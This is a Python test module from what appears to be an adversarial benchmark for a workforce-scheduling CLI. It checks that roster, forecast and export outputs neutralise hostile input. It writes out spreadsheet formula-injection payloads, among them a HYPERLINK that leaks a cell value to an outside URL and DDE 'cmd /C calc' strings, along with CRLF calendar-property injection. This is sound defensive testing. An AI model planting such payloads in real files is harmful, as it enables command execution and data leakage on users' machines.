"""Adversarial cases, part 1: formula injection, and the helpers other parts share (see benchmarks/adversarial.py)."""

from __future__ import annotations

import pandas as pd

from benchmarks.adversarial import DAYS, START, Ctx, case
from benchmarks.adversarial_files import (agents, csv_cells_starting, formulas_in, set_config, table_rows,
                                          write_agents_csv, write_xlsx)

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


def roster(ctx: Ctx, agents_file="agents.xlsx", out="out.xlsx", *extra, req="req.csv", time_limit="2",
           timeout: float = 120):
    ws = ctx.ws
    return ctx.wfm("roster", "-r", ws / req, "-a", ws / agents_file, "-c", ws / "config.toml", "--start", START,
                   "--days", DAYS, "--time-limit", time_limit, "-o", ws / out, *extra, timeout=timeout)


def no_formulas(ctx: Ctx, xlsx) -> None:
    if not xlsx.exists():
        ctx.fail(f"{xlsx.name} not written")
        return
    found = formulas_in(xlsx)
    if found:
        ctx.fail(f"formula written to {xlsx.name}: {found[0]}")


def no_csv_formulas(ctx: Ctx, path) -> None:
    bad = csv_cells_starting(path)
    if bad:
        ctx.fail(f"CSV {path.name} holds a cell a spreadsheet runs: {bad[0]!r}")


def roundtrip(ctx: Ctx, roster_file, agents_file, ids: list[str]) -> None:
    """`wfm check` and `wfm export` read the roster wfm wrote; the export lists each hostile id."""
    ws = ctx.ws
    r = ctx.wfm("check", ws / roster_file, "-a", ws / agents_file, "-c", ws / "config.toml")
    ctx.expect_ok(r, (0, 1))
    r = ctx.wfm("export", ws / roster_file, "-a", ws / agents_file, "-c", ws / "config.toml", "-o", ws / "exp",
                "--allow-violations")
    if not ctx.expect_ok(r):
        return
    manifest = pd.read_csv(ws / "exp" / "manifest.tsv", sep="\t", dtype=str, keep_default_na=False)
    got = set(manifest["agent_id"].str.lstrip("'"))
    for i in ids:
        if i not in got:
            ctx.fail(f"export manifest lacks agent {i!r}")
    for p in (ws / "exp").glob("*.csv"):
        no_csv_formulas(ctx, p)
    no_csv_formulas(ctx, ws / "exp_payroll.csv")


def _inject(ctx: Ctx, column: str, values: list[str], as_csv: bool = True):
    a = agents(ctx.ws)
    for i, v in enumerate(values):
        a.loc[i, column] = v
    if as_csv:
        return write_agents_csv(ctx.ws, a), a
    path = ctx.ws / "agents_h.xlsx"
    write_xlsx(path, table_rows(a))
    return path, a


@case("injection")
def agent_id_hyperlink_and_dde(ctx: Ctx) -> None:
    """Agent ids =HYPERLINK(...) and a DDE payload: text cells, and check/export read the roster back."""
    path, a = _inject(ctx, "agent_id", [HYPERLINK, DDE, "+1+1", "@SUM(A1)", "-2-2"])
    if ctx.expect_ok(roster(ctx, path.name), (0, 1)):
        no_formulas(ctx, ctx.ws / "out.xlsx")
        roundtrip(ctx, "out.xlsx", path.name, list(a["agent_id"][:5]))


@case("injection")
def agent_id_formula_in_xlsx_input(ctx: Ctx) -> None:
    """The hostile ids arrive in an xlsx (inline strings) rather than a CSV."""
    path, a = _inject(ctx, "agent_id", [HYPERLINK, "=1+1"], as_csv=False)
    if ctx.expect_ok(roster(ctx, path.name), (0, 1)):
        no_formulas(ctx, ctx.ws / "out.xlsx")
        roundtrip(ctx, "out.xlsx", path.name, list(a["agent_id"][:2]))


@case("injection")
def agent_name_and_team_formulas(ctx: Ctx) -> None:
    """Names and teams beginning with = + - @ (and tab/CR) are written as text everywhere."""
    a = agents(ctx.ws)
    a.loc[0, "name"], a.loc[1, "name"], a.loc[2, "name"] = DDE, "\t=1+2", "\r=3+4"
    a.loc[a["team"] == a.loc[0, "team"], "team"] = "=HYPERLINK(\"http://evil\")"
    a.loc[a["team"] == a.loc[3, "team"], "team"] = "@team"
    path = ctx.ws / "agents_h.xlsx"  # a bare CR would end a CSV row (pandas does not quote it)
    write_xlsx(path, table_rows(a))
    if ctx.expect_ok(roster(ctx, path.name), (0, 1)):
        no_formulas(ctx, ctx.ws / "out.xlsx")
        roundtrip(ctx, "out.xlsx", path.name, list(a["agent_id"][:3]))


@case("injection")
def centre_and_shift_names_formulas(ctx: Ctx) -> None:
    """Centre name and shift template names from the config beginning with '='."""
    set_config(ctx.ws, "name", '"=HYPERLINK(\\"http://x\\")"', 0)
    set_config(ctx.ws, "name", '"=1+1"', 1)
    set_config(ctx.ws, "name", '"+cmd"', 2)
    if ctx.expect_ok(roster(ctx), (0, 1)):
        no_formulas(ctx, ctx.ws / "out.xlsx")
        roundtrip(ctx, "out.xlsx", "agents.xlsx", [])


@case("injection")
def zh_workbook_with_hostile_text(ctx: Ctx) -> None:
    """The Chinese workbook with hostile ids, names and centre name."""
    set_config(ctx.ws, "language", '"zh"')
    set_config(ctx.ws, "name", '"@中心"', 0)
    path, a = _inject(ctx, "name", [HYPERLINK, "=张三"])
    if ctx.expect_ok(roster(ctx, path.name), (0, 1)):
        no_formulas(ctx, ctx.ws / "out.xlsx")


def _history_with_queue(ctx: Ctx, new: str) -> None:
    h = pd.read_csv(ctx.ws / "history.csv", dtype=str)
    h["queue"] = h["queue"].replace({"billing": new})
    h.to_csv(ctx.ws / "h.csv", index=False)


@case("injection")
def queue_name_formula_forecast_without_config(ctx: Ctx) -> None:
    """A queue =1+1 in a history read without config: forecast CSV quoted, workbook text."""
    _history_with_queue(ctx, "=HYPERLINK(\"http://x\",\"c\")")
    r = ctx.wfm("forecast", "--history", ctx.ws / "h.csv", "--start", START, "--days", "3", "--accuracy-folds",
                "2", "-o", ctx.ws / "f.csv")
    if r.code == 2:
        return  # refused with a message is fine
    if ctx.expect_ok(r):
        no_csv_formulas(ctx, ctx.ws / "f.csv")
        no_formulas(ctx, ctx.ws / "f.xlsx")


@case("injection")
def queue_name_formula_backtest(ctx: Ctx) -> None:
    """A queue +cmd in the backtest's CSV."""
    _history_with_queue(ctx, "+cmd|' /C calc'!A0")
    r = ctx.wfm("backtest", "--history", ctx.ws / "h.csv", "--days", "7", "--folds", "2", "-o", ctx.ws / "b.csv")
    if r.code != 2 and ctx.expect_ok(r):
        no_csv_formulas(ctx, ctx.ws / "b.csv")


@case("injection")
def queue_name_formula_in_config(ctx: Ctx) -> None:
    """A config queue label '=1+1': requirements CSV and roster text."""
    set_config(ctx.ws, "label", '"=1+1"')
    r = ctx.wfm("staff", "--forecast", ctx.ws / "forecast.csv", "-c", ctx.ws / "config.toml", "-o",
                ctx.ws / "r2.csv")
    if ctx.expect_ok(r):
        no_csv_formulas(ctx, ctx.ws / "r2.csv")
        if ctx.expect_ok(roster(ctx, "agents.xlsx", "out.xlsx", req="r2.csv"), (0, 1)):
            no_formulas(ctx, ctx.ws / "out.xlsx")


@case("injection")
def whatif_scenario_name_formula(ctx: Ctx) -> None:
    """A what-if scenario named '=1+1' (CSV and workbook)."""
    r = ctx.wfm("whatif", "-c", ctx.ws / "config.toml", "-f", ctx.ws / "forecast.csv", "--fte", "30",
                "-s", "=1+1:volume=1.1", "-s", "@x:aht=1.1", "-o", ctx.ws / "w.csv", "--xlsx", ctx.ws / "w.xlsx")
    if r.code != 2 and ctx.expect_ok(r):
        no_csv_formulas(ctx, ctx.ws / "w.csv")
        no_formulas(ctx, ctx.ws / "w.xlsx")


@case("injection")
def ics_crlf_injection(ctx: Ctx) -> None:
    """Agent name and id with CR/LF and ';' ',' cannot add a property to the .ics."""
    a = agents(ctx.ws)
    a.loc[0, "name"] = "Eve\r\nATTENDEE:mailto:evil@x\r\nX-EVIL:1"
    a.loc[1, "agent_id"] = "B2\nSUMMARY:pwned"
    path = write_agents_csv(ctx.ws, a)
    if not ctx.expect_ok(roster(ctx, path.name), (0, 1)):
        return
    r = ctx.wfm("export", ctx.ws / "out.xlsx", "-a", path, "-c", ctx.ws / "config.toml", "-o", ctx.ws / "exp",
                "--allow-violations")
    if ctx.expect_ok(r):
        for ics in (ctx.ws / "exp").glob("*.ics"):
            for line in ics.read_bytes().split(b"\r\n"):
                if line.startswith((b"ATTENDEE", b"X-EVIL")) or line.startswith(b"SUMMARY:pwned"):
                    ctx.fail(f"{ics.name}: injected property {line[:60]!r}")
                if b"\n" in line or b"\r" in line:
                    ctx.fail(f"{ics.name}: bare line break in {line[:60]!r}")


@case("injection")
def control_characters_in_names(ctx: Ctx) -> None:
    """Control characters in names, ids and teams: removed or refused, never a crash after solving."""
    a = agents(ctx.ws)
    a.loc[0, "name"] = "bad\x01\x02\x1b[31mname\x7f"
    a.loc[1, "team"] = a.loc[1, "team"] + "\x0b"
    a.loc[2, "agent_id"] = "ID\x00x"
    path = write_agents_csv(ctx.ws, a)
    r = roster(ctx, path.name)
    if r.code != 2 and ctx.expect_ok(r, (0, 1)):
        no_formulas(ctx, ctx.ws / "out.xlsx")
        ctx.expect_ok(ctx.wfm("check", ctx.ws / "out.xlsx", "-a", path, "-c", ctx.ws / "config.toml"), (0, 1))


@case("injection")
def export_csv_of_hostile_agent(ctx: Ctx) -> None:
    """The per-agent CSV and payroll of an agent '-1+2': quoted; manifest maps it back."""
    path, a = _inject(ctx, "agent_id", ["-1+2", "=A1"])
    if ctx.expect_ok(roster(ctx, path.name), (0, 1)):
        roundtrip(ctx, "out.xlsx", path.name, ["-1+2", "=A1"])
